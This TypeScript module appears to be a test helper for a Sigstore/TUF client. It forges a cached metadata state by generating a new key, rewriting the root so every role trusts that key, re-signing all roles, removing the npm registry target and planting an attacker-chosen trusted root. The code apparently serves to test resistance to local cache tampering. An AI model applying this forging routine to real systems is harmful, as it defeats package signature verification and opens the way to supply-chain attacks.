import { createHash, generateKeyPairSync, sign } from 'node:crypto';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Metadata, MetadataKind, Signature } from '@tufjs/models';

// What a local attacker who can write the cache directory can do without any of Sigstore's
// keys: make up a root of their own, sign every role with it, and plant a trusted root.
const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const KEY_ID = 'f0'.repeat(32);
const KEY = { keytype: 'ecdsa', scheme: 'ecdsa-sha2-nistp256', keyval: { public: publicKey.export({ type: 'spki', format: 'pem' }).toString() } };

function signed(kind: MetadataKind, json: { signed: Record<string, unknown> }): string {
  const metadata = Metadata.fromJSON(kind as MetadataKind.Root, { signed: json.signed, signatures: [] } as never);
  metadata.sign((data) => new Signature({ keyID: KEY_ID, sig: sign('sha256', data, privateKey).toString('hex') }));
  return JSON.stringify(metadata.toJSON());
}

const meta = (bytes: string, version: number) => ({ version, length: Buffer.byteLength(bytes), hashes: { sha256: createHash('sha256').update(bytes).digest('hex') } });

/** Rewrites a committed state dir: an attacker's root (at `rootVersion`) and `trustedRoot` as the target. */
export function forgeState(stateDir: string, trustedRoot: string, rootVersion: number): void {
  const read = (file: string) => JSON.parse(readFileSync(join(stateDir, file), 'utf8'));
  const root = read('root.json');
  root.signed.version = rootVersion;
  root.signed.keys = { [KEY_ID]: KEY };
  for (const role of Object.keys(root.signed.roles)) root.signed.roles[role] = { keyids: [KEY_ID], threshold: 1 };
  writeFileSync(join(stateDir, 'root.json'), signed(MetadataKind.Root, root));

  rmSync(join(stateDir, 'registry.npmjs.org.json'), { force: true });
  writeFileSync(join(stateDir, 'targets', 'trusted_root.json'), trustedRoot);
  const targets = read('targets.json');
  delete targets.signed.delegations;
  targets.signed.targets = { 'trusted_root.json': meta(trustedRoot, 1) };
  const targetsBytes = signed(MetadataKind.Targets, targets);
  writeFileSync(join(stateDir, 'targets.json'), targetsBytes);

  const snapshot = read('snapshot.json');
  snapshot.signed.meta = { 'targets.json': { version: targets.signed.version } };
  const snapshotBytes = signed(MetadataKind.Snapshot, snapshot);
  writeFileSync(join(stateDir, 'snapshot.json'), snapshotBytes);

  const timestamp = read('timestamp.json');
  timestamp.signed.meta = { 'snapshot.json': meta(snapshotBytes, snapshot.signed.version) };
  writeFileSync(join(stateDir, 'timestamp.json'), signed(MetadataKind.Timestamp, timestamp));
}
